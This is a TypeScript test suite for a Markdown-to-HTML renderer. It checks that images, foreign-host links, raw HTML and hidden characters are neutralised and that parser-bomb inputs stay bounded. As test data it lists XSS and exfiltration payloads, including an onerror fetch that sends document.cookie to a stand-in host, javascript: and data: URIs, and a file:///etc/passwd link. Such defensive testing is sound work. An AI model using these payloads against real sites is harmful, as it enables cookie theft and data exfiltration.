import assert from 'node:assert/strict'
import { test } from 'node:test'
import * as fc from 'fast-check'
import { proseHtml } from './html.ts'
import { parseProse } from './parse.ts'
import { MAX_CHARACTERS, MAX_DEPTH, type Prose, proseText } from './prose.ts'

const html = (source: string, links: string[] = []): string => proseHtml(parseProse(source), { links })

/** Every element name that appears in some HTML. */
const elementsOf = (text: string): string[] => [...text.matchAll(/<([a-z0-9]+)/gi)].map((match) => match[1] ?? '')
const SAFE = new Set(
  'p h1 h2 h3 h4 h5 h6 ul ol li em strong code pre a blockquote br table thead tbody tr th td'.split(' '),
)

test('an article keeps its headings, steps, emphasis, code, quote and table', () => {
  const out = html(
    '## Steps\n\n1. Open **Cards**\n2. Tap `x`\n\n> *note*\n\n| A | B |\n|---|:-:|\n| 1 | a \\| **b** |\n',
  )
  assert.equal(
    out,
    '<h4>Steps</h4><ol><li>Open <strong>Cards</strong></li><li>Tap <code>x</code></li></ol>' +
      '<blockquote><p><em>note</em></p></blockquote><table><thead><tr><th scope="col">A</th><th scope="col">B</th></tr></thead>' +
      '<tbody><tr><td>1</td><td>a | <strong>b</strong></td></tr></tbody></table>',
  )
})

test('I-03 PI-01: an image becomes its alternative text and is never fetched', () => {
  for (const source of [
    '![a](https://c.sink.test/?q=SECRET)',
    '![a][r]\n\n[r]: https://c.sink.test/SECRET',
    '[![a](https://c.sink.test/x)](https://c.sink.test/y)',
  ]) {
    const out = html(source)
    assert.ok(!/<img|src=|<a /i.test(out), out)
    assert.match(out, /a/)
  }
})

test('I-03 PI-02: a reference link to a foreign host is text with its host, not a link', () => {
  assert.equal(html('[click][r]\n\n[r]: https://c.sink.test/SECRET'), '<p>click (c.sink.test)</p>')
})

test('I-03 PI-03 PI-08 PI-09: raw HTML is shown as the text it is', () => {
  for (const payload of [
    '<img src=//c.sink.test/x>',
    '<svg onload=alert(1)>',
    '<style>@import "//c.sink.test"</style>',
    '<link rel=prefetch href=//c.sink.test>',
    '<meta http-equiv=refresh content="0;url=//c.sink.test">',
    '<img src=x onerror=fetch("//c.sink.test/"+document.cookie)>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<!-- <script> -->',
    '<?php ?>',
    '<![CDATA[ <script>alert(1)</script> ]]>',
    'a <b onmouseover=alert(1)>x</b> | y\n--|--\n<script>1</script> | z',
  ]) {
    for (const source of [payload, `**${payload}**`, `- ${payload}`, `# ${payload}`, `\`\`\`\n${payload}\n\`\`\``]) {
      for (const name of elementsOf(html(source))) assert.ok(SAFE.has(name), `${name} from ${source}`)
    }
  }
})

test('I-03: raw HTML is neither read nor lost', () => {
  assert.equal(html('<div>a</div>\n\n*b* <b>'), '<p>&lt;div&gt;a&lt;/div&gt;</p><p><em>b</em> &lt;b&gt;</p>')
})

test('I-03: links of other protocols are words only', () => {
  for (const target of [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    '&#106;avascript:alert(1)',
    '<java\tscript:alert(1)>',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://acme.example/1',
    'ftp://acme.example',
  ]) {
    const out = html(`[x](${target})`, ['acme.example'])
    assert.ok(!/href/.test(out), out)
  }
  assert.equal(html('<javascript:alert(1)>'), '<p>javascript:alert(1)</p>')
})

test('I-03 PI-04 PI-06: a live link leads to an allowed host and path, without a query', () => {
  const link = (target: string, allow: string[]): string => html(`[x](${target})`, allow)
  assert.match(link('https://acme.example/help', ['acme.example']), /href="https:\/\/acme.example\/help"/)
  const redirect = link('https://acme.example/r?u=https://c.sink.test/SECRET', ['acme.example'])
  assert.ok(!redirect.includes('SECRET'), redirect)
  assert.match(link('https://acme.example/find?q=1', ['acme.example/find?']), /find\?q=1"/)
  for (const [target, allow] of [
    ['https://SECRET.c.sink.test', 'c.sink'],
    ['https://acme.example.c.sink.test/', 'acme.example'],
    ['https://acme.example@c.sink.test/', 'acme.example'],
    ['https://acme.example:8443/', 'acme.example'],
    ['https://sub.acme.example/', 'acme.example'],
    ['https://acme.example/private', 'acme.example/help/'],
    ['https://acme.example/helpless', 'acme.example/help'],
    ['https://acme.example/help/../private', 'acme.example/help/'],
    ['//c.sink.test/x', 'acme.example'],
    ['/\\\\c.sink.test/x', 'acme.example'],
    ['\\\\\\\\c.sink.test/x', 'acme.example'],
  ] as const) {
    const out = link(target, [allow])
    assert.ok(!out.includes('href'), `${target}: ${out}`)
  }
  assert.equal(html('see https://SECRET.c.sink.test now'), '<p>see https://SECRET.c.sink.test now</p>')
})

test('I-03: live links open apart, without opener, referrer or vote; mail links show their address', () => {
  assert.equal(
    html('[x](/my-data)'),
    '<p><a href="/my-data" rel="noopener noreferrer nofollow" target="_blank">x</a></p>',
  )
  const mail = html('[write](mailto:help@acme.example?bcc=all@c.sink.test&body=SECRET)')
  assert.match(mail, /href="mailto:help@acme.example"/)
  assert.match(mail, /write \(help@acme.example\)/)
  assert.ok(!mail.includes('SECRET'))
})

test('links of an article are resolved by the caller, and one that it does not know is words', () => {
  const known = (href: string): string | undefined => (href === 'a.md' ? '/help/a' : undefined)
  const prose = parseProse('[a](a.md) [b](b.md)', { resolve: known })
  assert.match(proseHtml(prose), /<a href="\/help\/a".*>a<\/a> b/)
})

test('PI-12: hidden characters and direction overrides are dropped, marks that languages need stay', () => {
  const hidden = 'pay\u202E evil \u2066x\u{E0041}\u{E0042}\u0000\u0007\uFEFF'
  assert.equal(proseText(parseProse(hidden)), 'pay evil x')
  assert.equal(proseText(parseProse('\u200Fשלום\u200E 👩\u200D💻')), '\u200Fשלום\u200E 👩\u200D💻')
})

test('texts over the cap are cut at a paragraph and say so', () => {
  const prose = parseProse('word word word\n\n'.repeat(3_000))
  assert.equal(prose.cut, true)
  assert.ok(proseText(prose).length <= MAX_CHARACTERS)
  assert.match(proseHtml(prose), /<p>…<\/p>$/)
  assert.equal(parseProse('short').cut, undefined)
})

const depthOf = (value: unknown): number =>
  typeof value === 'object' && value !== null ? 1 + Math.max(0, ...Object.values(value).map(depthOf)) : 0

test('traps 7: parser bombs stay within a bounded time and depth', () => {
  const full = (part: string): string => part.repeat(Math.ceil(MAX_CHARACTERS / part.length))
  const backticks = Array.from({ length: 180 }, (_, i) => '`'.repeat(i + 1)).join(' ')
  const nested = Array.from({ length: 300 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n')
  const numbered = Array.from({ length: 200 }, (_, i) => `${' '.repeat(i * 3)}1. a`).join('\n')
  const bombs = [
    '>',
    '> ',
    '- ',
    '1. ',
    '[',
    '![',
    '[]',
    '[a](',
    '*a_ ',
    'a**b*c_',
    '> a\nb\n',
    '&',
    '<a',
    '\\',
    '|',
    '\n',
  ]
  for (const bomb of [...bombs.map(full), full('> - 1. '), backticks, nested, numbered, '[a]: b\n'.repeat(2_000)]) {
    const start = process.cpuUsage()
    const prose = parseProse(bomb)
    proseHtml(prose)
    const { user } = process.cpuUsage(start)
    // Measured 0 to 50 ms; unguarded the worst of these takes 3 s.
    assert.ok(user < 800_000, `${bomb.slice(0, 12)} took ${user / 1000} ms`)
    assert.ok(depthOf(prose) < MAX_DEPTH * 8, `${bomb.slice(0, 12)} is ${depthOf(prose)} deep`)
  }
})

test('any text gives safe elements only, and the tree survives JSON', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '[',
    ']',
    '(',
    ')',
    '!',
    '*',
    '_',
    '`',
    '|',
    '-',
    '\n',
    ' ',
    '"',
    "'",
    '&',
    'javascript:',
    '<img src=x onerror=y>',
    'https://c.sink.test',
    '#',
    '1.',
    '\\',
    'a',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      const prose = parseProse(pieces.join(''))
      const copy: Prose = JSON.parse(JSON.stringify(prose))
      assert.deepEqual(copy, prose)
      const out = proseHtml(copy)
      for (const name of elementsOf(out)) assert.ok(SAFE.has(name), out)
      assert.ok(!/href="(?!\/|mailto:)/.test(out), out)
    }),
    { numRuns: 400 },
  )
})
